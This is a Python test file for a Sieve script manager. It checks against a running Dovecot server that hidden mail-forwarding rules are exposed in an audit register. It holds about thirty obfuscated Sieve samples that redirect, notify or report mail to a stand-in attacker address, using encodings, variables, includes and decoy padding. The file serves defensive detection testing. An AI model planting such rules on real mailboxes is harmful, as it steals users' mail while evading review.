"""What a hijacker may hide in a script that Pigeonhole runs: the register shows where mail goes.

Each script is stored by the server itself and gets a message; what the sink then holds must
stand in the register, or a word that the script was not understood.
"""

from collections.abc import Iterator, Mapping

import pytest

from sieve_manager.adapters.memory_directory import MemoryDirectory
from sieve_manager.adapters.memory_records import MemoryHistory
from sieve_manager.adapters.script_store import ManageSieveStore
from sieve_manager.application.access import Access, Actor, Channel
from sieve_manager.application.mailbox_reading import MailboxReader
from sieve_manager.demo.dovecot import DovecotServer, running_dovecot
from sieve_manager.demo.dovecot_configuration import DovecotOptions
from sieve_manager.demo.lmtp import deliver, sample_message
from sieve_manager.demo.smtp_sink import SmtpSink
from sieve_manager.domain.mailboxes import Login
from sieve_manager.domain.roles import Role
from sieve_manager.domain.scripts import ScriptName
from sieve_manager.managesieve import Credentials, Endpoint, TlsMode
from sieve_manager.policy.policy import Policy
from sieve_manager.policy.rights import StaffRules
from tests.application.world import OwnAddress
from tests.servers.mailboxes import make_mailbox

EVIL = "evil@attack.example.net"
_MANY = "".join(f'if header "x-{n}" "y" {{ redirect "nice@example.com"; }}' for n in range(210))

SCRIPTS = {
    "set": 'require "variables"; set "a" "evil"; redirect "${a}@attack.example.net";',
    "modifier": f'require "variables"; set :lower "a" "{EVIL.upper()}"; redirect "${{a}}";',
    "later": f'require "variables"; set "a" "b@example.com"; if true {{ set "a" "{EVIL}"; }} '
    'redirect "${a}";',
    "matched": f'require "variables"; if string :matches "x{EVIL}" "x*" {{ redirect "${{1}}"; }}',
    "header": 'require "variables"; if header :matches "X-To" "*" { redirect "${1}"; }',
    "global": f'require ["variables", "include"]; global "g"; set "g" "{EVIL}"; '
    'redirect "${global.g}";',
    "hex": 'require "encoded-character"; redirect "${hex:65 76}il@attack.example.net";',
    "unicode": 'require "encoded-character"; redirect "${unicode:65}vil@attack.example.net";',
    "escaped": 'redirect "\\e\\v\\i\\l@attack.example.net";',
    "multiline": f"redirect text:\r\n{EVIL}\r\n.\r\n;",
    "named": f'redirect "Nice <{EVIL}>";',
    "comment": f'REDIRECT /* x */ "{EVIL}" # y\r\n;',
    "else": f'if false {{ keep; }} else {{ redirect "{EVIL}"; }}',
    "anyof": f'if anyof(false, not false) {{ redirect "{EVIL}"; }}',
    "ihave": f'require "ihave"; if not ihave "x-unknown" {{ redirect "{EVIL}"; }}',
    "loop": f'require ["foreverypart", "mime"]; foreverypart {{ redirect "{EVIL}"; break; }}',
    "body": 'require ["foreverypart", "mime", "extracttext", "variables"]; '
    'foreverypart { extracttext :first 23 "t"; } redirect "${t}";',
    "added": f'require ["editheader", "variables"]; addheader "X-A" "{EVIL}"; '
    'if header :matches "X-A" "*" { redirect "${1}"; }',
    "notify": f'require "enotify"; notify "mailto:b@example.com?cc={EVIL}";',
    "percent": 'require "enotify"; NOTIFY "MAILTO:%65vil@attack.example.net";',
    "options": f'require "notify"; notify :method "mailto" :options ["b@example.com", "{EVIL}"];',
    "report": f'require "vnd.dovecot.report"; report "abuse" "text" "{EVIL}";',
    "beyond": f'{_MANY}redirect "{EVIL}";',
}
_REDIRECTS = {"s": f'redirect "{EVIL}";'}
INCLUDES = {
    "plain": ('require "include"; if true { include :once :optional "s"; }', _REDIRECTS),
    "coded": ('require ["include", "encoded-character"]; include "${hex:73}";', _REDIRECTS),
    "literal": ('require "include"; include "${hex:73}";', {"${hex:73}": f'redirect "{EVIL}";'}),
    "given": (
        f'require ["include", "variables"]; global "a"; set "a" "{EVIL}"; include "s";',
        {"s": 'require ["include", "variables"]; global "a"; redirect "${a}";'},
    ),
    "taken": (
        'require ["include", "variables"]; global "a"; include "s"; redirect "${a}";',
        {"s": f'require ["include", "variables"]; global "a"; set "a" "{EVIL}";'},
    ),
    "again": (
        'require "include"; ' + 'include "k"; ' * 210 + 'include "s";',
        {"k": "keep;", **_REDIRECTS},
    ),
    "crowd": (
        'require "include"; ' + "".join(f'include "k{n}"; ' for n in range(101)) + 'include "t";',
        {
            **{f"k{n}": "keep;" for n in range(101)},
            **_REDIRECTS,
            "t": 'require "include"; include "s";',
        },
    ),
}


@pytest.fixture(scope="module")
def server(sink: SmtpSink) -> Iterator[DovecotServer]:
    """A Dovecot that can do more than one should let it."""
    more = "+notify +editheader +vnd.dovecot.report"
    options = DovecotOptions(sink_port=sink.port, sieve_extensions=more, max_scripts=200)
    with running_dovecot(options) as running:
        yield running


@pytest.mark.parametrize("name", SCRIPTS)
def test_what_is_hidden_in_a_script_is_shown(
    server: DovecotServer, sink: SmtpSink, name: str
) -> None:
    assert is_shown(server, sink, {"active": SCRIPTS[name]})


@pytest.mark.parametrize("name", INCLUDES)
def test_what_is_hidden_behind_an_include_is_shown(
    server: DovecotServer, sink: SmtpSink, name: str
) -> None:
    script, others = INCLUDES[name]
    assert is_shown(server, sink, {**others, "active": script})


def is_shown(server: DovecotServer, sink: SmtpSink, scripts: Mapping[str, str]) -> bool:
    """Whether the register says where these scripts send a message to."""
    login = Login(make_mailbox(server))
    there = server.endpoints
    master = Credentials(login=there.master_user, password=there.master_password)
    endpoint = Endpoint(
        host=there.host,
        port=there.managesieve_port,
        tls=TlsMode.STARTTLS,
        ca_file=there.ca_file,
    )
    store = ManageSieveStore(endpoint, master=master)
    helpdesk = Actor(name="ada", channel=Channel.CLI, role=Role.ADMINISTRATOR)
    with store.session(Access(login=login, actor=helpdesk)) as session:
        for name, text in scripts.items():
            session.put_script(ScriptName(name), text.encode())
        session.set_active(ScriptName("active"))
    before = sink.to(EVIL)
    message = sample_message(to=login.text, text=EVIL, headers={"X-To": EVIL})
    assert deliver(message, recipient=login.text, port=there.lmtp_port).code == 250
    assert sink.to(EVIL) != before, "the scripts do not do what they are here for"
    entries = reader(store).read(login, None, ()).reading.entries or ()
    return any(one.problem or not one.target or one.target.lower() == EVIL for one in entries)


def reader(store: ManageSieveStore) -> MailboxReader:
    """What a sweep reads with."""
    return MailboxReader(
        store=store,
        directory=MemoryDirectory(),
        addresses=OwnAddress(),
        history=MemoryHistory(),
        policy=Policy(internal_domains=frozenset({"example.com"})),
        staff=StaffRules(),
    )
